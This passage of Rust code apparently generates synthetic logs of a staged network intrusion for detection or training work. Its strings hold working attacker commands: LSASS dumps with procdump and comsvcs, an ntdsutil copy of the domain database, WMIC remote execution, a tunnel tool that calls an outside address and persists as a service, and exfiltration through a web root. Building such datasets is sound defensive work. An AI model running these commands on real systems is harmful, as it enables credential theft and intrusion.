        "svc_sqlrpt",
        "PDO",
        WEB_IP,
        "\\\\*\\C$",
        "C:\\",
        "",
        "0x1",
        tag,
    );
    let c = "net use \\\\PDO-FS01\\Drafts";
    op.system(t + secs(31), c, Some((&sys32("net.exe"), c)), 110, tag);
    wl::share(
        op.s,
        "PDO-FS01",
        t + secs(32),
        5140,
        "svc_sqlrpt",
        "PDO",
        WEB_IP,
        "\\\\*\\Drafts",
        "D:\\Shares\\Drafts",
        "",
        "0x1",
        tag,
    );
    op.system(
        t + secs(75),
        "dir \\\\PDO-FS01\\C$\\Windows\\Debug",
        None,
        900,
        tag,
    );
    wl::share(
        op.s,
        "PDO-FS01",
        t + secs(76),
        5145,
        "svc_sqlrpt",
        "PDO",
        WEB_IP,
        "\\\\*\\C$",
        "\\??\\C:\\",
        "Windows\\Debug",
        "0x100081",
        tag,
    );
    let r = &mut op.r;
    let p = r.range(49152, 65000) as u16;
    zeek::conn(
        op.s,
        t + ms(650),
        &Conn {
            orig: WEB_IP,
            orig_p: p,
            resp: "10.20.0.20",
            resp_p: 445,
            proto: "tcp",
            service: "smb,ntlm",
            duration: 140.0,
            orig_bytes: 12_000,
            resp_bytes: 48_000,
            state: "SF",
        },
        tag,
    );

    // S12: WMI to SQL01.
    let tag = st.s(12);
    let t = utc("2025-03-10 02:40:18");
    let q = "cmd /c sqlcmd -S . -E -Q \\\"SELECT name FROM sys.databases\\\" > C:\\Windows\\Temp\\d.txt";
    let wmic = format!(
        "wmic /node:PDO-SQL01 /user:PDO\\svc_sqlrpt /password:******** process call create \"{q}\""
    );
    op.system(t, &wmic, Some((&sys32("wbem\\WMIC.exe"), &wmic)), 640, tag);
    remote_wmi(
        op,
        "PDO-SQL01",
        "10.20.0.30",
        t + secs(1),
        "cmd /c sqlcmd -S . -E -Q \"SELECT name FROM sys.databases\" > C:\\Windows\\Temp\\d.txt",
        Some((
            "C:\\Program Files\\Microsoft SQL Server\\Client SDK\\ODBC\\170\\Tools\\Binn\\SQLCMD.EXE",
            "sqlcmd  -S . -E -Q \"SELECT name FROM sys.databases\"",
        )),
        "C:\\Windows\\Temp\\d.txt",
        tag,
    );
    op.system(
        t + secs(40),
        "type \\\\PDO-SQL01\\C$\\Windows\\Temp\\d.txt",
        None,
        800,
        tag,
    );
    let q2 = "cmd /c sqlcmd -S . -E -d DraftingDB -Q \"SELECT TOP 5000 * FROM dbo.BillVersions ORDER BY Modified DESC\" -o C:\\Windows\\Temp\\bv.txt";
    let wmic2 = format!(
        "wmic /node:PDO-SQL01 /user:PDO\\svc_sqlrpt /password:******** process call create \"{}\"",
        q2.replace('"', "\\\"")
    );
    op.system(
        t + secs(130),
        &wmic2,
        Some((&sys32("wbem\\WMIC.exe"), &wmic2)),
        640,
        tag,
    );
    remote_wmi(
        op,
        "PDO-SQL01",
        "10.20.0.30",
        t + secs(131),
        q2,
        Some((
            "C:\\Program Files\\Microsoft SQL Server\\Client SDK\\ODBC\\170\\Tools\\Binn\\SQLCMD.EXE",
            "sqlcmd  -S . -E -d DraftingDB -Q \"SELECT TOP 5000 * FROM dbo.BillVersions ORDER BY Modified DESC\" -o C:\\Windows\\Temp\\bv.txt",
        )),
        "C:\\Windows\\Temp\\bv.txt",
        tag,
    );
    op.system(
        t + secs(220),
        "copy \\\\PDO-SQL01\\C$\\Windows\\Temp\\bv.txt C:\\Windows\\Debug\\bv.dat",
        None,
        200,
        tag,
    );

    // S13: BMS credentials, via FS01.
    let tag = st.s(13);
    let t = utc("2025-03-11 03:02:10");
    let inner = "cmd /c copy \\\\PDO-BMS01\\C$\\ProgramData\\VendorBMS\\config\\site.xml C:\\Windows\\Debug\\s.xml";
    let wmic = format!(
        "wmic /node:PDO-FS01 /user:PDO\\svc_sqlrpt /password:******** process call create \"{inner}\""
    );
    op.system(t, &wmic, Some((&sys32("wbem\\WMIC.exe"), &wmic)), 640, tag);
    remote_wmi(
        op,
        "PDO-FS01",
        "10.20.0.20",
        t + secs(1),
        inner,
        None,
        "C:\\Windows\\Debug\\s.xml",
        tag,
    );
    let lid = wl::logon(
        op.s,
        &mut op.r,
        "PDO-BMS01",
        t + secs(2),
        &Logon {
            user: "svc_sqlrpt",
            domain: "PDO",
            logon_type: 3,
            ip: "10.20.0.20",
            workstation: "PDO-FS01",
            package: "NTLM",
        },
        tag,
    );
    wl::special_privs(
        op.s,
        "PDO-BMS01",
        t + secs(2),
        "svc_sqlrpt",
        "PDO",
        &lid,
        tag,
    );
    wl::share(
        op.s,
        "PDO-BMS01",
        t + secs(2) + ms(50),
        5140,
        "svc_sqlrpt",
        "PDO",
        "10.20.0.20",
        "\\\\*\\C$",
        "C:\\",
        "",
        "0x1",
        tag,
    );
    wl::share(
        op.s,
        "PDO-BMS01",
        t + secs(2) + ms(90),
        5145,
        "svc_sqlrpt",
        "PDO",
        "10.20.0.20",
        "\\\\*\\C$",
        "\\??\\C:\\",
        "ProgramData\\VendorBMS\\config\\site.xml",
        "0x1",
        tag,
    );
    let r = &mut op.r;
    let p = r.range(49152, 65000) as u16;
    zeek::conn(
        op.s,
        t + secs(2),
        &Conn {
            orig: "10.20.0.20",
            orig_p: p,
            resp: "10.20.0.70",
            resp_p: 445,
            proto: "tcp",
            service: "smb,ntlm",
            duration: 1.1,
            orig_bytes: 3_100,
            resp_bytes: 14_800,
            state: "SF",
        },
        tag,
    );
    op.system(
        t + secs(35),
        "type \\\\PDO-FS01\\C$\\Windows\\Debug\\s.xml",
        None,
        6_900,
        tag,
    );

    // S14: tunnel, firewall rule, service.
    let tag = st.s(14);
    let t = utc("2025-03-11 03:30:05");
    op.post(t - secs(40), SHELL1, 380, 1_210_000, tag);
    wl::file_create(
        op.s,
        &mut op.r,
        WEB,
        t - secs(39),
        W3WP,
        "C:\\Windows\\Debug\\wiadbg.exe",
        POOL,
        tag,
    );
    let fw = "netsh advfirewall firewall add rule name=\"Windows Image Acquisition Debug\" dir=in action=allow protocol=TCP localport=9998-9999";
    op.system(t, fw, Some((&sys32("netsh.exe"), fw)), 90, tag);
    wl::fw_4946(
        op.s,
        &mut op.r,
        WEB,
        t + ms(600),
        "Windows Image Acquisition Debug",
        tag,
    );
    wl::fw_rule(
        op.s,
        &mut op.r,
        WEB,
        t + ms(600),
        "Windows Image Acquisition Debug",
        "",
        "9998-9999",
        "C:\\Windows\\System32\\netsh.exe",
        "S-1-5-18",
        tag,
    );
    let tun = "C:\\Windows\\Debug\\wiadbg.exe -L 9998 -F 9999 -R 203.0.113.45:443 -k wia";
    op.system(
        t + secs(48),
        "start /b C:\\Windows\\Debug\\wiadbg.exe -L 9998 -F 9999 -R 203.0.113.45:443 -k wia",
        Some(("C:\\Windows\\Debug\\wiadbg.exe", tun)),
        40,
        tag,
    );
    let r = &mut op.r;
    let p = r.range(49152, 65000) as u16;
    wl::net_conn(
        op.s,
        r,
        WEB,
        t + secs(49),
        "C:\\Windows\\Debug\\wiadbg.exe",
        SYSTEM,
        (WEB_IP, p),
        (ACTOR, 443),
        "",
        tag,
    );
    zeek::conn(
        op.s,
        t + secs(49),
        &Conn {
            orig: WEB_IP,
            orig_p: p,
            resp: ACTOR,
            resp_p: 443,
            proto: "tcp",
            service: "ssl",
            duration: 14_200.0,
            orig_bytes: 310_000,
            resp_bytes: 96_000,
            state: "SF",
        },
        tag,
    );
    // Optional G step: persisted as a service.
    let svc = "sc create WiaDbgSvc binPath= \"C:\\Windows\\Debug\\wiadbg.exe -L 9998 -F 9999 -R 203.0.113.45:443 -k wia\" start= auto DisplayName= \"Windows Image Acquisition Debug\"";
    op.system(t + secs(140), svc, Some((&sys32("sc.exe"), svc)), 60, tag);
    wl::service_install(
        op.s,
        WEB,
        t + secs(141),
        "WiaDbgSvc",
        "C:\\Windows\\Debug\\wiadbg.exe -L 9998 -F 9999 -R 203.0.113.45:443 -k wia",
        "auto start",
        "LocalSystem",
        tag,
    );
    wl::event(
        op.s,
        WEB,
        Channel::Security,
        t + secs(141),
        4697,
        wl::data(&[
            ("SubjectUserSid", "S-1-5-18"),
            ("SubjectUserName", "PDO-WEB01$"),
            ("SubjectDomainName", "PDO"),
            ("SubjectLogonId", "0x3e7"),
            ("ServiceName", "WiaDbgSvc"),
            (
                "ServiceFileName",
                "C:\\Windows\\Debug\\wiadbg.exe -L 9998 -F 9999 -R 203.0.113.45:443 -k wia",
            ),
            ("ServiceType", "0x10"),
            ("ServiceStartType", "2"),
            ("ServiceAccount", "LocalSystem"),
        ]),
        tag,
    );
}

/// An NTLM network logon from the web server (4776 on the DC, 4624 + 4672 on the target).
fn ntlm_logon(op: &mut Op, host: &str, t: DateTime<Utc>, user: &str, tag: Tag, admin: bool) {
    wl::event(
        op.s,
        "PDO-DC01",
        Channel::Security,
        t - ms(20),
        4776,
        wl::data(&[
            ("PackageName", "MICROSOFT_AUTHENTICATION_PACKAGE_V1_0"),
            ("TargetUserName", user),
            ("Workstation", "PDO-WEB01"),
            ("Status", "0x0"),
        ]),
        tag,
    );
    let lid = wl::logon(
        op.s,
        &mut op.r,
        host,
        t,
        &Logon {
            user,
            domain: "PDO",
            logon_type: 3,
            ip: WEB_IP,
            workstation: "PDO-WEB01",
            package: "NTLM",
        },
        tag,
    );
    if admin {
        wl::special_privs(op.s, host, t, user, "PDO", &lid, tag);
    }
}

/// A WMI process creation on `host` as svc_sqlrpt from the web server.
#[allow(clippy::too_many_arguments)]
fn remote_wmi(
    op: &mut Op,
    host: &str,
    ip: &str,
    t: DateTime<Utc>,
    cmdline: &str,
    tool: Option<(&str, &str)>,
    out_file: &str,
    tag: Tag,
) {
    ntlm_logon(op, host, t, "svc_sqlrpt", tag, true);
    let wmi = "C:\\Windows\\System32\\wbem\\WmiPrvSE.exe";
    wl::process(
        op.s,
        &mut op.r,
        host,
        t + ms(500),
        &Proc::new(
            CMD,
            cmdline,
            wmi,
            "C:\\Windows\\system32\\wbem\\wmiprvse.exe -secured -Embedding",
            "PDO\\svc_sqlrpt",
        )
        .integrity("High"),
        tag,
    );
    if let Some((img, cl)) = tool {
        wl::process(
            op.s,
            &mut op.r,
            host,
            t + ms(560),
            &Proc::new(img, cl, CMD, cmdline, "PDO\\svc_sqlrpt").integrity("High"),
            tag,
        );
    }
    wl::file_create(
        op.s,
        &mut op.r,
        host,
        t + ms(1400),
        CMD,
        out_file,
        "PDO\\svc_sqlrpt",
        tag,
    );
    let r = &mut op.r;
    for (port, svc, b) in [(135u16, "dce_rpc", 4_000u64), (49_667, "dce_rpc", 9_000)] {
        let p = r.range(49152, 65000) as u16;
        zeek::conn(
            op.s,
            t - ms(100),
            &Conn {
                orig: WEB_IP,
                orig_p: p,
                resp: ip,
                resp_p: port,
                proto: "tcp",
                service: svc,
                duration: 1.5,
                orig_bytes: b,
                resp_bytes: b * 2,
                state: "SF",
            },
            tag,
        );
    }
}

fn credentials(op: &mut Op, st: &Steps) {
    // S15: LSASS dump on FS01 via a remote scheduled task.
    let tag = st.s(15);
    let t = utc("2025-03-12 01:57:10");
    op.post(t - secs(60), SHELL1, 380, 640_000, tag);
    wl::file_create(
        op.s,
        &mut op.r,
        WEB,
        t - secs(59),
        W3WP,
        "C:\\Windows\\Debug\\pd64.exe",
        POOL,
        tag,
    );
    op.system(
        t,
        "copy C:\\Windows\\Debug\\pd64.exe \\\\PDO-FS01\\C$\\Windows\\Debug\\pd64.exe",
        None,
        120,
        tag,
    );
    ntlm_logon(op, "PDO-FS01", t + ms(400), "svc_sqlrpt", tag, true);
    wl::share(
        op.s,
        "PDO-FS01",
        t + ms(500),
        5145,
        "svc_sqlrpt",
        "PDO",
        WEB_IP,
        "\\\\*\\C$",
        "\\??\\C:\\",
        "Windows\\Debug\\pd64.exe",
        "0x2",
        tag,
    );
    let sch = "schtasks /create /s PDO-FS01 /u PDO\\svc_sqlrpt /p ******** /tn \"\\Microsoft\\Windows\\WDI\\DiagSync\" /tr \"C:\\Windows\\Debug\\pd64.exe -accepteula -ma lsass.exe C:\\Windows\\Debug\\lsd.dmp\" /sc once /st 01:59 /ru SYSTEM";
    let t2 = t + secs(25);
    op.system(t2, sch, Some((&sys32("schtasks.exe"), sch)), 160, tag);
    let task = "\\Microsoft\\Windows\\WDI\\DiagSync";
    let content = "<?xml version=\"1.0\" encoding=\"UTF-16\"?>\r\n<Task version=\"1.2\" xmlns=\"http://schemas.microsoft.com/windows/2004/02/mit/task\">\r\n  <Triggers><TimeTrigger><StartBoundary>2025-03-12T01:59:00</StartBoundary><Enabled>true</Enabled></TimeTrigger></Triggers>\r\n  <Principals><Principal id=\"Author\"><UserId>S-1-5-18</UserId><RunLevel>HighestAvailable</RunLevel></Principal></Principals>\r\n  <Actions Context=\"Author\"><Exec><Command>C:\\Windows\\Debug\\pd64.exe</Command><Arguments>-accepteula -ma lsass.exe C:\\Windows\\Debug\\lsd.dmp</Arguments></Exec></Actions>\r\n</Task>";
    wl::event(
        op.s,
        "PDO-FS01",
        Channel::Security,
        t2 + ms(700),
        4698,
        wl::data(&[
            (
                "SubjectUserSid",
                "S-1-5-21-3623811015-3361044348-30300820-2214",
            ),
            ("SubjectUserName", "svc_sqlrpt"),
            ("SubjectDomainName", "PDO"),
            ("SubjectLogonId", "0x5d2a1f"),
            ("TaskName", task),
            ("TaskContent", content),
        ]),
        tag,
    );
    wl::event(
        op.s,
        "PDO-FS01",
        Channel::TaskScheduler,
        t2 + ms(720),
        106,
        wl::data(&[("TaskName", task), ("UserContext", "PDO\\svc_sqlrpt")]),
        tag,
    );
    let t3 = utc("2025-03-12 01:59:00") + ms(310);
    wl::event(
        op.s,
        "PDO-FS01",
        Channel::TaskScheduler,
        t3,
        200,
        wl::data(&[
            ("TaskName", task),
            ("ActionName", "C:\\Windows\\Debug\\pd64.exe"),
            ("TaskInstanceId", "{3f0c9a52-6c1e-4d8a-bf2e-19a0c0d7e811}"),
            ("EnginePID", "6120"),
        ]),
        tag,
    );
    let pd = "C:\\Windows\\Debug\\pd64.exe";
    let pdc = "C:\\Windows\\Debug\\pd64.exe -accepteula -ma lsass.exe C:\\Windows\\Debug\\lsd.dmp";
    wl::process(
        op.s,
        &mut op.r,
        "PDO-FS01",
        t3 + ms(40),
        &Proc::new(
            pd,
            pdc,
            "C:\\Windows\\System32\\svchost.exe",
            "C:\\Windows\\system32\\svchost.exe -k netsvcs -p -s Schedule",
            SYSTEM,
        )
        .original("procdump")
        .cwd("C:\\Windows\\system32\\"),
        tag,
    );
    wl::proc_access(
        op.s,
        &mut op.r,
        "PDO-FS01",
        t3 + ms(900),
        pd,
        "C:\\Windows\\system32\\lsass.exe",
        "0x1FFFFF",
        "C:\\Windows\\SYSTEM32\\ntdll.dll+9d4c4|C:\\Windows\\System32\\KERNELBASE.dll+2c13e|C:\\Windows\\SYSTEM32\\dbghelp.dll+1ef3a|C:\\Windows\\SYSTEM32\\dbgcore.dll+7a1d|C:\\Windows\\Debug\\pd64.exe+4b1f2",
        SYSTEM,
        tag,
    );
    wl::file_create(
        op.s,
        &mut op.r,
        "PDO-FS01",
        t3 + secs(2),
        pd,
        "C:\\Windows\\Debug\\lsd.dmp",
        SYSTEM,
        tag,
    );
    wl::event(
        op.s,
        "PDO-FS01",
        Channel::TaskScheduler,
        t3 + secs(6),
        201,
        wl::data(&[
            ("TaskName", task),
            ("TaskInstanceId", "{3f0c9a52-6c1e-4d8a-bf2e-19a0c0d7e811}"),
            ("ActionName", pd),
            ("ResultCode", "0"),
        ]),
        tag,
    );

    // S16: the dump leaves through the web root.
    let tag = st.s(16);
    let t = utc("2025-03-12 02:21:40");
    let c = "copy \\\\PDO-FS01\\C$\\Windows\\Debug\\lsd.dmp C:\\inetpub\\wwwroot\\drafts\\Images\\thumbs\\t1.dat";
    op.system(t, c, None, 140, tag);
    wl::share(
        op.s,
        "PDO-FS01",
        t + ms(500),
        5145,
        "svc_sqlrpt",
        "PDO",
        WEB_IP,
        "\\\\*\\C$",
        "\\??\\C:\\",
        "Windows\\Debug\\lsd.dmp",
        "0x1",
        tag,
    );
    wl::file_create(
        op.s,
        &mut op.r,
        WEB,
        t + secs(3),
        CMD,
        "C:\\inetpub\\wwwroot\\drafts\\Images\\thumbs\\t1.dat",
        SYSTEM,
        tag,
    );
    let tg = utc("2025-03-12 02:24:02");
    iis(
        op.s,
        WEB,
        WEB_IP,
        tg + ms(48_211),
        &Req {
            method: "GET",
            stem: "/drafts/Images/thumbs/t1.dat",
            query: "",
            user: "",
            client: ACTOR,
            ua: UA,
            referer: "",
            status: 200,
            sc_bytes: 64_962_113,
            cs_bytes: 431,
            taken: 48_211,
        },
        tag,
    );
    let r = &mut op.r;
    let p = r.range(49152, 65000) as u16;
    zeek::conn(
        op.s,
        tg,
        &Conn {
            orig: ACTOR,
            orig_p: p,
            resp: WEB_IP,
            resp_p: 443,
            proto: "tcp",
            service: "ssl",
            duration: 48.3,
            orig_bytes: 1_900,
            resp_bytes: 65_010_442,
            state: "SF",
        },
        tag,
    );
    let t = utc("2025-03-12 02:31:15");
    op.system(t, "del C:\\inetpub\\wwwroot\\drafts\\Images\\thumbs\\t1.dat & del \\\\PDO-FS01\\C$\\Windows\\Debug\\lsd.dmp", None, 40, tag);
    wl::file_delete(
        op.s,
        &mut op.r,
        WEB,
        t + ms(400),
        CMD,
        "C:\\inetpub\\wwwroot\\drafts\\Images\\thumbs\\t1.dat",
        SYSTEM,
        tag,
    );
    wl::share(
        op.s,
        "PDO-FS01",
        t + ms(450),
        5145,
        "svc_sqlrpt",
        "PDO",
        WEB_IP,
        "\\\\*\\C$",
        "\\??\\C:\\",
        "Windows\\Debug\\lsd.dmp",
        "0x10080",
        tag,
    );

    // S17: comsvcs MiniDump on SQL01.
    let tag = st.s(17);
    let t = utc("2025-03-12 03:10:44");
    let inner = "rundll32.exe C:\\Windows\\System32\\comsvcs.dll, MiniDump 708 C:\\Windows\\Temp\\sq.bin full";
    let wmic = format!(
        "wmic /node:PDO-SQL01 /user:PDO\\svc_sqlrpt /password:******** process call create \"{inner}\""
    );
    op.system(t, &wmic, Some((&sys32("wbem\\WMIC.exe"), &wmic)), 640, tag);
    ntlm_logon(op, "PDO-SQL01", t + secs(1), "svc_sqlrpt", tag, true);
    let rd = sys32("rundll32.exe");
    wl::process(
        op.s,
        &mut op.r,
        "PDO-SQL01",
        t + secs(1) + ms(500),
        &Proc::new(
            &rd,
            inner,
            "C:\\Windows\\System32\\wbem\\WmiPrvSE.exe",
            "C:\\Windows\\system32\\wbem\\wmiprvse.exe -secured -Embedding",
            "PDO\\svc_sqlrpt",
        )
        .integrity("High"),
        tag,
    );
    wl::proc_access(
        op.s,
        &mut op.r,
        "PDO-SQL01",
        t + secs(2),
        &rd,
        "C:\\Windows\\system32\\lsass.exe",
        "0x1FFFFF",
        "C:\\Windows\\SYSTEM32\\ntdll.dll+9d4c4|C:\\Windows\\System32\\KERNELBASE.dll+2c13e|C:\\Windows\\System32\\comsvcs.dll+3f1c5|C:\\Windows\\System32\\rundll32.exe+3bc4",
        "PDO\\svc_sqlrpt",
        tag,
    );
    wl::file_create(
        op.s,
        &mut op.r,
        "PDO-SQL01",
        t + secs(3),
        &rd,
        "C:\\Windows\\Temp\\sq.bin",
        "PDO\\svc_sqlrpt",
        tag,
    );
    let r = &mut op.r;
    let p = r.range(49152, 65000) as u16;
    zeek::conn(
        op.s,
        t + ms(200),
        &Conn {
            orig: WEB_IP,
            orig_p: p,
            resp: "10.20.0.30",
            resp_p: 135,
            proto: "tcp",
            service: "dce_rpc",
            duration: 1.2,
            orig_bytes: 4_100,
            resp_bytes: 8_800,
            state: "SF",
        },
        tag,
    );
}

fn jump_host(op: &mut Op, st: &Steps) {
    // S18: RDP into the jump host from the DMZ.
    let tag = st.s(18);
    let t = utc("2025-03-13 02:20:31");
    let r = &mut op.r;
    let p = r.range(49152, 65000) as u16;
    zeek::conn(
        op.s,
        t - secs(3),
        &Conn {
            orig: ACTOR,
            orig_p: p,
            resp: WEB_IP,
            resp_p: 9999,
            proto: "tcp",
            service: "",
            duration: 5_400.0,
            orig_bytes: 2_400_000,
            resp_bytes: 61_000_000,
            state: "SF",
        },
        tag,
    );
    let p = r.range(49152, 65000) as u16;
    zeek::conn(
        op.s,
        t - secs(2),
        &Conn {
            orig: WEB_IP,
            orig_p: p,
            resp: "10.20.0.50",
            resp_p: 3389,
            proto: "tcp",
            service: "ssl",
            duration: 5_390.0,
            orig_bytes: 2_300_000,
            resp_bytes: 60_000_000,
            state: "SF",
        },
        tag,
    );
    wl::tgt(
        op.s,
        "PDO-DC01",
        t - secs(1),
        "adm.tkereama",
        "PDO.EXAMPLE",
        WEB_IP,
        "0x12",
        tag,
    );
    wl::tgs(
        op.s,
        "PDO-DC01",
        t - ms(600),
        "adm.tkereama@PDO.EXAMPLE",
        "PDO-JMP01$",
        WEB_IP,
        "0x12",
        "0x40810000",
        tag,
    );
    wl::rdp_auth(op.s, "PDO-JMP01", t, "adm.tkereama", "PDO", WEB_IP, tag);
    let lid = wl::logon(
        op.s,
        &mut op.r,
        "PDO-JMP01",
        t + ms(900),
        &Logon {
            user: "adm.tkereama",
            domain: "PDO",
            logon_type: 10,
            ip: WEB_IP,
            workstation: "PDO-WEB01",
            package: "Kerberos",
        },
        tag,
    );
    wl::special_privs(
        op.s,
        "PDO-JMP01",
        t + ms(900),
        "adm.tkereama",
        "PDO",
        &lid,
        tag,
    );
    wl::rdp_session(
        op.s,
        "PDO-JMP01",
        t + secs(1),
        21,
        "PDO\\adm.tkereama",
        4,
        WEB_IP,
        tag,
    );
    wl::rdp_session(
        op.s,
        "PDO-JMP01",
        t + secs(2),
        22,
        "PDO\\adm.tkereama",
        4,
        WEB_IP,
        tag,
    );
    let exp = "C:\\Windows\\explorer.exe";
    wl::process(
        op.s,
        &mut op.r,
        "PDO-JMP01",
        t + secs(3),
        &Proc::new(
            "C:\\Windows\\System32\\userinit.exe",
            "C:\\Windows\\system32\\userinit.exe",
            "C:\\Windows\\System32\\winlogon.exe",
            "winlogon.exe",
            "PDO\\adm.tkereama",
        )
        .integrity("High"),
        tag,
    );
    wl::process(
        op.s,
        &mut op.r,
        "PDO-JMP01",
        t + secs(4),
        &Proc::new(
            exp,
            "C:\\Windows\\Explorer.EXE",
            "C:\\Windows\\System32\\userinit.exe",
            "C:\\Windows\\system32\\userinit.exe",
            "PDO\\adm.tkereama",
        )
        .integrity("High"),
        tag,
    );
    wl::logoff(
        op.s,
        "PDO-JMP01",
        t + secs(5_380),
        "adm.tkereama",
        "PDO",
        10,
        &lid,
        tag,
    );
    // Same account, same time, from the real owner's workstation.
    wl::tgt(
        op.s,
        "PDO-DC02",
        t - Duration::minutes(35),
        "adm.tkereama",
        "PDO.EXAMPLE",
        "10.20.10.107",
        "0x12",
        tag,
    );

    // S19: ntdsutil IFM on the DC (RDP from the jump host).
    let tag = st.s(19);
    let t = utc("2025-03-13 03:05:12");
    let lid = wl::logon(
        op.s,
        &mut op.r,
        "PDO-DC01",
        t - secs(50),
        &Logon {
            user: "adm.tkereama",
            domain: "PDO",
            logon_type: 10,
            ip: "10.20.0.50",
            workstation: "PDO-JMP01",
            package: "Kerberos",
        },
        tag,
    );
    wl::special_privs(
        op.s,
        "PDO-DC01",
        t - secs(50),
        "adm.tkereama",
        "PDO",
        &lid,
        tag,
    );
    wl::rdp_auth(
        op.s,
        "PDO-DC01",
        t - secs(51),
        "adm.tkereama",
        "PDO",
        "10.20.0.50",
        tag,
    );
    let cmdp = "\"C:\\Windows\\system32\\cmd.exe\"";
    wl::process(
        op.s,
        &mut op.r,
        "PDO-DC01",
        t - secs(10),
        &Proc::new(
            CMD,
            cmdp,
            "C:\\Windows\\explorer.exe",
            "C:\\Windows\\Explorer.EXE",
            "PDO\\adm.tkereama",
        )
        .integrity("High"),
        tag,
    );
    let nt = "ntdsutil.exe \"ac i ntds\" \"ifm\" \"create full C:\\Windows\\Temp\\ifm\" q q";
    wl::process(
        op.s,
        &mut op.r,
        "PDO-DC01",
        t,
        &Proc::new(&sys32("ntdsutil.exe"), nt, CMD, cmdp, "PDO\\adm.tkereama")
            .integrity("High")
            .cwd("C:\\Users\\adm.tkereama\\"),
        tag,
    );
    for (i, (id, msg)) in [
        (325u32, "NTDS (3120,D,0) NTDSA: The database engine created a new database (1, C:\\Windows\\Temp\\ifm\\Active Directory\\ntds.dit). (Time=0 seconds)"),
        (216, "NTDS (3120,D,0) NTDSA: A database location change was detected from 'C:\\Windows\\NTDS\\ntds.dit' to 'C:\\Windows\\Temp\\ifm\\Active Directory\\ntds.dit'."),
        (326, "NTDS (3120,D,0) NTDSA: The database engine attached a database (1, C:\\Windows\\Temp\\ifm\\Active Directory\\ntds.dit). (Time=0 seconds)"),
        (327, "NTDS (3120,D,0) NTDSA: The database engine detached a database (1, C:\\Windows\\Temp\\ifm\\Active Directory\\ntds.dit). (Time=1 seconds)"),
    ]
    .iter()
    .enumerate()
    {
        wl::event(op.s, "PDO-DC01", Channel::Application, t + secs(4 + i as i64), *id, vec![("Data", (*msg).to_string())], tag);
    }
    let nte = sys32("ntdsutil.exe");
    for (i, f) in [
        "C:\\Windows\\Temp\\ifm\\Active Directory\\ntds.dit",
        "C:\\Windows\\Temp\\ifm\\Active Directory\\ntds.jfm",
        "C:\\Windows\\Temp\\ifm\\registry\\SYSTEM",
        "C:\\Windows\\Temp\\ifm\\registry\\SECURITY",
    ]
    .iter()
    .enumerate()
    {
        wl::file_create(
            op.s,
            &mut op.r,
            "PDO-DC01",
            t + secs(5 + 3 * i as i64),
            &nte,
            f,
            "PDO\\adm.tkereama",
            tag,
        );
    }
    wl::logoff(
        op.s,
        "PDO-DC01",
        t + secs(600),
        "adm.tkereama",
        "PDO",
        10,
        &lid,
        tag,
    );
    let t2 = t + secs(700);
    for (i, f) in [
        "Windows\\Temp\\ifm\\Active Directory\\ntds.dit",
        "Windows\\Temp\\ifm\\registry\\SYSTEM",
        "Windows\\Temp\\ifm\\registry\\SECURITY",
    ]
    .iter()
    .enumerate()
    {
        wl::share(
            op.s,
            "PDO-DC01",
            t2 + secs(i as i64 * 4),
            5145,
            "adm.tkereama",
            "PDO",
            "10.20.0.50",
            "\\\\*\\C$",
            "\\??\\C:\\",
            f,
            "0x1",
            tag,
        );
    }

    // S20: collection and staging on the jump host.
    let tag = st.s(20);
    let user = "PDO\\adm.tkereama";
    let t = utc("2025-03-13 03:40:02");
    wl::process(
        op.s,
        &mut op.r,
        "PDO-JMP01",
        t - secs(20),
        &Proc::new(CMD, cmdp, exp, "C:\\Windows\\Explorer.EXE", user).integrity("High"),
        tag,
    );
    let jcmd = |op: &mut Op, t: DateTime<Utc>, img: &str, cl: &str, orig: Option<&str>| {
        let mut p = Proc::new(img, cl, CMD, cmdp, user)
            .integrity("High")
            .cwd("C:\\PerfLogs\\");
        if let Some(o) = orig {
            p = p.original(o);
        }
        wl::process(op.s, &mut op.r, "PDO-JMP01", t, &p, tag);
    };
    let rc = "robocopy \\\\PDO-FS01\\Cabinet\\2025 C:\\PerfLogs\\c /E /MAXAGE:60 /R:0 /NP /NFL";
    jcmd(op, t, &sys32("Robocopy.exe"), rc, None);
    let lid = wl::logon(
        op.s,
        &mut op.r,
        "PDO-FS01",
        t + ms(300),
        &Logon {
            user: "adm.tkereama",
            domain: "PDO",
            logon_type: 3,
            ip: "10.20.0.50",
            workstation: "-",
            package: "Kerberos",
        },
        tag,
    );
    wl::special_privs(
        op.s,
        "PDO-FS01",
        t + ms(300),
        "adm.tkereama",
        "PDO",
        &lid,
        tag,
    );
    wl::share(
        op.s,
        "PDO-FS01",
        t + ms(400),
        5140,
        "adm.tkereama",
        "PDO",
        "10.20.0.50",
        "\\\\*\\Cabinet",
        "D:\\Shares\\Cabinet",
        "",
        "0x1",
        tag,
    );
    let n = 320;
    for i in 0..n {
        let f = format!(
            "2025\\{}\\{}-{:03}.{}",
            ["Papers", "Minutes", "Submissions", "Briefings"][i % 4],
            ["CAB", "MIN", "SUB", "BRF"][i % 4],
            i,
            ["docx", "pdf", "xlsx", "msg"][i % 4]
        );
        wl::share(
            op.s,
            "PDO-FS01",
            t + ms(900 + i as i64 * 650),
            5145,
            "adm.tkereama",
            "PDO",
            "10.20.0.50",
            "\\\\*\\Cabinet",
            "\\??\\D:\\Shares\\Cabinet",
            &f,
            "0x1",
            tag,
        );
    }
    let r = &mut op.r;
    let p = r.range(49152, 65000) as u16;
    zeek::conn(
        op.s,
        t + ms(200),
        &Conn {
            orig: "10.20.0.50",
            orig_p: p,
            resp: "10.20.0.20",
            resp_p: 445,
            proto: "tcp",
            service: "smb,krb",
            duration: 230.0,
            orig_bytes: 2_100_000,
            resp_bytes: 3_350_000_000,
            state: "SF",
        },
        tag,
    );
    jcmd(
        op,
        t + secs(260),
        &sys32("Robocopy.exe"),
        "robocopy \\\\PDO-DC01\\C$\\Windows\\Temp\\ifm C:\\PerfLogs\\c\\ifm /E /R:0 /NP /NFL",
        None,
    );
    // The archiver, a renamed WinRAR command line, next morning (Friday).
    let t = utc("2025-03-14 01:41:27");
    wl::file_create(
        op.s,
        &mut op.r,
        "PDO-JMP01",
        t - secs(30),
        exp,
        "C:\\PerfLogs\\rr.exe",
        user,
        tag,
    );
    let rar = "C:\\PerfLogs\\rr.exe a -hpQd7!Lk2#vR -m5 -v250m -r C:\\PerfLogs\\q1.rar C:\\PerfLogs\\c\\*";
    jcmd(op, t, "C:\\PerfLogs\\rr.exe", rar, Some("Rar.exe"));
    for i in 1..=14 {
        wl::file_create(
            op.s,
            &mut op.r,
            "PDO-JMP01",
            t + secs(40 * i),
            "C:\\PerfLogs\\rr.exe",
            &format!("C:\\PerfLogs\\q1.part{i:02}.rar"),
            user,
            tag,
        );
    }

    // S21: network information for re-entry, trust probe.
    let tag = st.s(21);
